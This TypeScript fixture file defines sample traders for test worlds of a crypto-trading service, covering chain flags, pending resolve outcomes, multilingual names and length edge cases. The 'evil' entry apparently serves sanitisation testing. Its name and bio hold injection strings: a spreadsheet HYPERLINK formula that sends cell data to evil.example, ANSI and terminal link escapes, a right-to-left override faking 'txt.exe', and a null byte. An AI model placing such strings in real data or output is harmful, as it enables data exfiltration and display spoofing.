import type { ResolvePlan } from '../types.ts';

/** Bit flags for the chains on which a trader has a wallet. */
export const SOLANA = 1;
export const EVM = 2;
export const BOTH = SOLANA | EVM;

/** A trader who is in every generated world, so that docs and tests can refer to them. */
export interface FixedTrader {
  readonly handle: string;
  readonly name: string | null;
  readonly bio: string | null;
  readonly chains: number;
  /** The result of a live resolve. Traders without a plan have verified wallets. */
  readonly plan?: ResolvePlan;
  readonly sample?: true;
  /** Whether the trader never trades and never posts. */
  readonly idle?: true;
  /** The index of another fixed trader with the same wallets. */
  readonly twin?: number;
}

const LONGEST_HANDLE = 'the_longest_handle_that_the_service_takes_is_64_characters_long_';

/** The fixed traders. The first ones are the most active. */
export const fixedTraders: readonly FixedTrader[] = [
  {
    handle: 'mira',
    name: 'Mira 🌙',
    bio: 'Swing trades on three chains. Thesis first.',
    chains: BOTH,
    sample: true,
  },
  { handle: 'solwolf', name: 'Sol Wolf', bio: 'Solana only. awooo 🐺', chains: SOLANA, sample: true },
  { handle: '0xMert', name: 'Mert', bio: 'EVM only.', chains: EVM, sample: true },
  {
    handle: 'evil',
    name: '\u001b[31mEvil\u001b[0m \u202etxt.exe\u202c',
    bio: '=HYPERLINK("https://evil.example/?c="&A1,"click")\u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007\u009b2J\r\nsecond line\ttabbed\u0000',
    chains: BOTH,
  },
  { handle: 'tokyo', name: '東京トレーダー', bio: '板読みと気合い。', chains: BOTH, sample: true },
  { handle: 'layla', name: 'ليلى المتداولة', bio: 'أكتب قبل أن أشتري.', chains: SOLANA },
  { handle: 'noam', name: 'נועם', bio: 'סוחר לילה 🌃', chains: EVM },
  { handle: 'mira_alt', name: null, bio: null, chains: BOTH, idle: true, twin: 0 },
  { handle: 'quiet', name: 'Quiet', bio: null, chains: BOTH, idle: true },
  {
    handle: 'nowallet',
    name: 'No Wallet',
    bio: null,
    chains: SOLANA,
    plan: { outcome: 'pending', reason: 'no_preview' },
  },
  {
    handle: 'slowpoke',
    name: 'Slowpoke 🐢',
    bio: 'I get there.',
    chains: BOTH,
    plan: { outcome: 'found', ms: 3_000, queue: 2 },
  },
  {
    handle: 'tardy',
    name: 'Tardy',
    bio: null,
    chains: SOLANA,
    plan: { outcome: 'pending', reason: 'timeout' },
  },
  {
    handle: 'offline',
    name: 'Offline',
    bio: null,
    chains: EVM,
    plan: { outcome: 'pending', reason: 'unavailable' },
  },
  {
    handle: 'throttled',
    name: null,
    bio: null,
    chains: SOLANA,
    plan: { outcome: 'pending', reason: 'rate_limited' },
  },
  {
    handle: 'newborn',
    name: 'Newborn',
    bio: null,
    chains: SOLANA,
    plan: { outcome: 'pending', reason: 'not_ingested' },
  },
  { handle: 'q', name: 'Q', bio: '', chains: BOTH },
  {
    handle: LONGEST_HANDLE,
    name: 'A Name That Is Far Longer Than Most Of The Other Ones',
    bio: null,
    chains: SOLANA,
  },
];
